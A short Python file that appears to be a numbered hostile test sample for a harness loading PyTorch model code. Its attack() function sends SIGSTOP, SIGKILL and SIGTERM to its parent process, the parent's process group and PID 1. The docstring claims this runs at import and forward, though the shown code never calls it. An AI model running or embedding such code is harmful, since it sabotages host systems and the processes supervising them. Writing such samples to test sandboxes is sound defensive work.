"""Row 7: sends SIGKILL and SIGSTOP to its parent, its group and everybody.

Where: import, forward
"""

import torch
from torch import nn, os


def attack(*_):
    for signal in (19, 9, 15):
        for target in (os.getppid(), -os.getpgid(os.getppid()), 1):
            try:
                os.kill(target, signal)
            except OSError:
                continue
